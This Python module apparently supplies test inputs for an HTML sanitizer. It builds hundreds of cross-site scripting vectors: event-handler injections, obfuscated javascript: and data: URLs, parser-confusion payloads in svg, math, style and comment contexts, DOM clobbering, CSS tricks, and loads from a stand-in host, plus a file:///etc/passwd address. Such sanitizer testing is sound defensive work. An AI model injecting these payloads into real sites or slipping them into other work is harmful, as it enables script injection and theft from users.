"""Hostile bodies by class. VECTORS is all of them; each tries to run `alert` or to fetch a page.

`https://foreign.example` stands for somebody else's host. The lists are products of the places
where script can stand and the disguises that parsers are known to disagree about.
"""

CALL = "alert(1)"

_ELEMENTS = (
    "img svg video audio body iframe object embed input button select textarea form details "
    "marquee style link p a b table td div span math isindex keygen source track x custom-x"
)
_EVENTS = (
    "onerror onload onclick onfocus onmouseover ontoggle onstart onbegin onanimationstart "
    "onpointerenter onbeforeinput onwheel oncopy onpaste onscrollend onbeforematch"
)
_HANDLER_FORMS = (
    "<{element} src=x {event}={call}>x",
    '<{element} src="x" {event}="{call}">x</{element}>',
    "<{element}/src=x/{event}={call}>x",
    "<{element}\t{event}\n=\n'{call}' autofocus tabindex=1>x",
)
HANDLERS = [
    form.format(element=element, event=_EVENTS.split()[(row * 3 + column) % 16], call=CALL)
    for row, element in enumerate(_ELEMENTS.split())
    for column, form in enumerate(_HANDLER_FORMS)
] + [f"<p {event}={CALL}>x</p>" for event in _EVENTS.split()]

_ADDRESSES = [
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f" javascript:{CALL}",
    f"java\tscript:{CALL}",
    f"java\nscript:{CALL}",
    f"java\rscript:{CALL}",
    f"\x01javascript:{CALL}",
    f"java\x00script:{CALL}",
    f"\x1f\x20javascript:{CALL}",
    f"&#106;avascript:{CALL}",
    f"&#x6A;avascript:{CALL}",
    f"&#0000106avascript:{CALL}",
    f"javascript&colon;{CALL}",
    f"javascript&#58;{CALL}",
    f"java&Tab;script:{CALL}",
    f"java&NewLine;script:{CALL}",
    f"&#1;javascript:{CALL}",
    f"java&#13;script:{CALL}",
    f"java&#1;script:{CALL}",
    f"\u00a0javascript:{CALL}",
    f"\u2028javascript:{CALL}",
    f"javascript\u200b:{CALL}",
    f"ｊavascript:{CALL}",
    f"javascript://foreign.example/%0a{CALL}",
    f"javascript:/*http://*/{CALL}",
    f"vbscript:{CALL}",
    f"livescript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{CALL}'/>",
    "blob:https://foreign.example/1",
    f"view-source:javascript:{CALL}",
    f"feed:javascript:{CALL}",
    f"jar:javascript:{CALL}!/",
    "file:///etc/passwd",
    "filesystem:https://foreign.example/temporary/x",
    "intent://foreign.example#Intent;scheme=https;end",
    "about:blank",
    "x-unknown:1",
    "/\\foreign.example/x",
    "\\\\foreign.example\\x",
    "\t//foreign.example/x",
    "http:foreign.example",
    "https:/\\foreign.example",
    f"https://foreign.example/\x01javascript:{CALL}",
]
_PLACES = (
    '<a href="{address}">x</a>',
    "<a href={address}>x</a>",
    "<a/href='{address}'>x</a>",
    '<q cite="{address}">x</q>',
    '<blockquote cite="{address}">x</blockquote>',
    '<form action="{address}"><button formaction="{address}">x</button></form>',
    '<iframe src="{address}"></iframe>',
    '<object data="{address}"></object><embed src="{address}">',
    '<svg><a xlink:href="{address}"><text>x</text></a></svg>',
    '<img src="{address}" srcset="{address} 2x" longdesc="{address}">',
)
LINKS = [
    place.format(address=address)
    for row, address in enumerate(_ADDRESSES)
    for column, place in enumerate(_PLACES)
    if column < 2 or (row + column) % 4 == 0
]

_PAYLOADS = [
    f"<img src=x onerror={CALL}>",
    f"<script>{CALL}</script>",
    f'<a href="javascript:{CALL}">x</a>',
]
# Elements in which parsers change their rules, so that a second reading sees other tags.
_ROOMS = [
    "<noscript><p title='</noscript>{payload}'>",
    "<style><a title='</style>{payload}'></style>",
    "<title><a title='</title>{payload}'></title>",
    "<textarea><a title='</textarea>{payload}'></textarea>",
    "<xmp><p title='</xmp>{payload}'></xmp>",
    "<iframe><p title='</iframe>{payload}'></iframe>",
    "<noembed><p title='</noembed>{payload}'></noembed>",
    "<noframes><p title='</noframes>{payload}'></noframes>",
    "<plaintext>{payload}",
    "<listing>&lt;{payload}</listing>",
    "<template>{payload}</template>",
    "<template><template>{payload}</template>",
    "<select><option>{payload}<p></select>{payload}",
    "<select><template>{payload}</template></select>",
    "<table><tr><td><style></table>{payload}</style>",
    "<table>{payload}<tr><caption>{payload}</table>",
    "<table><colgroup>{payload}<col>{payload}</table>",
    "<form><div></form><form>{payload}</form>",
    "<svg><style>{payload}</style></svg>",
    "<svg><p><style><!--</style>{payload}--></style>",
    "<svg></p><style><a title='</style>{payload}'></svg>",
    "<svg><foreignObject><p>{payload}</p></foreignObject></svg>",
    "<svg><desc><noscript>{payload}</noscript></desc></svg>",
    "<svg><title><style><img title='</style>{payload}'>",
    "<svg><![CDATA[><p>]]>{payload}</svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a>{payload}</a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{payload}'>",
    "<math><annotation-xml encoding='text/html'><style>{payload}</style></annotation-xml>",
    "<math><mi><table><mglyph><svg><mtext><style><path id='</style>{payload}'>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>{payload}</maction>",
    "<form><math><mtext></form><form><mglyph><style></math>{payload}",
    "<![CDATA[<p>{payload}]]>",
    "<!-- {payload} -->",
    "<!--><p>{payload}-->",
    "<!---><p>{payload}-->",
    "<!-- --!><p>{payload}-->",
    "<!-- -- ><p>{payload}",
    "<!-->{payload}",
    "<!{payload}>",
    "<?xml {payload}?>",
    "</ {payload}>",
    "<%{payload}%>",
    "<!--[if gte mso 9]>{payload}<![endif]-->",
    "<!--{{cke_protected}}%3Cscript%3Ealert(1)%3C%2Fscript%3E-->{payload}",
    "<p data-cke-saved-href='javascript:alert(1)' data-cke-pa-onclick='alert(1)'>{payload}</p>",
    "<span data-cke-realelement='%3Cscript%3Ealert(1)%3C/script%3E'>{payload}</span>",
    "<p><b><i><u>{payload}</b></p></i><p>{payload}",
    "<p title='&quot;>{payload}'>x</p>",
    "<p lang='en\"><{payload}'>x</p>",
    "<p title=`>{payload}`>x",
    "<p title='{payload}>x",
    "<p\x00title=x>{payload}",
    "<\x00p>{payload}",
    "<<p>>{payload}",
    "<p/{payload}>x",
    "<p<{payload}>x",
    "&lt;p&gt;{payload}&lt;/p&gt;",
    "&amp;lt;script&amp;gt;{payload}",
    "\ufeff{payload}\u202e",
    "\ud800{payload}\udc00",
]
CONFUSIONS = [room.format(payload=payload) for room in _ROOMS for payload in _PAYLOADS]

STYLES_AND_PAGES = [
    f"<style></style\t><svg onload={CALL}></style>",
    "<style>@import 'https://foreign.example/x.css';</style>",
    "<p style=\"background:url('https://foreign.example/x')\">x</p>",
    "<p style=\"background:url('javascript:alert(1)')\">x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='-moz-binding:url(https://foreign.example/x.xml#x)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9'>x</p>",
    "<p class='submit-row' id='content'>x</p>",
    "<a id=attributes name=cookie>x</a>",
    "<form id=document><input name=body></form>",
    "<link rel=stylesheet href=https://foreign.example/x.css>",
    "<link rel=import href=data:text/html,x>",
    "<meta http-equiv=refresh content='0;url=https://foreign.example'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<base href=https://foreign.example/><a href=/x>x</a>",
    "<base target=_blank>",
    "<object data=https://foreign.example/x.swf><param name=x value=y></object>",
    "<embed src=https://foreign.example/x.svg>",
    "<applet code=x></applet>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=https://foreign.example></iframe>",
    "<img src=//foreign.example/pixel.png>",
    "<img srcset='https://foreign.example/x 1x, javascript:alert(1) 2x'>",
    "<picture><source srcset=https://foreign.example/x></picture>",
    "<video poster=https://foreign.example/x><source src=x onerror=alert(1)></video>",
    "<input type=image src=x onerror=alert(1)>",
    "<body background=https://foreign.example/x>",
    "<table background=https://foreign.example/x><td background=javascript:alert(1)>x</table>",
    "<a href=/x target=_blank ping=https://foreign.example/x>x</a>",
    "<a href=/x download=x.exe>x</a>",
    "<a href=/x rel='opener'>x</a>",
    "<p contenteditable autofocus draggable=true accesskey=x>x</p>",
    "<p is=custom-x slot=x part=x nonce=x popover>x</p>",
    "<script src=https://foreign.example/x.js></script>",
    "<script type=module>import 'https://foreign.example/x.js'</script>",
    "<script/x>alert(1)</script/x>",
    "<ScRiPt>alert(1)</sCrIpT >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<script>alert(1)",
    "<script >alert(1)</script foo>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'></svg>",
    "<svg><set attributeName=onload to=alert(1)></svg>",
    "<svg><image href=https://foreign.example/x onerror=alert(1)></svg>",
    "<td colspan=1000000000 rowspan=1000000000>x</td>",
    "<table><td colspan=1000000000 rowspan=65535>x</table>",
    "<ol start=99999999999999999999><li>x</ol>",
    "<p dir='rtl\" onclick=alert(1) x=\"'>x</p>",
    "<p lang='\"><script>alert(1)</script>'>x</p>",
    "<time datetime='\"><img src=x onerror=alert(1)>'>x</time>",
    "<pre>\n\n<script>alert(1)</script></pre>",
]

VECTORS = HANDLERS + LINKS + CONFUSIONS + STYLES_AND_PAGES
